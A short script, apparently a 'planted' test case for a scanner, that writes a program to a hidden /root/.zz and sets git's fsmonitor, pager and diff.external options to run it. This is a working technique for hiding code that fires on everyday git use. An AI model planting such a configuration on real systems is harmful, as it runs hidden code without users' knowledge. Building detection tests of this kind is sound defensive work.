# name: a configuration of git that runs programs
# group: planted
paying_program | put /root/.zz
chmod 755 /root/.zz
printf '[core]\n\tfsmonitor = /root/.zz\n\tpager = /root/.zz\n[diff]\n\texternal = /root/.zz\n' | put /root/.gitconfig
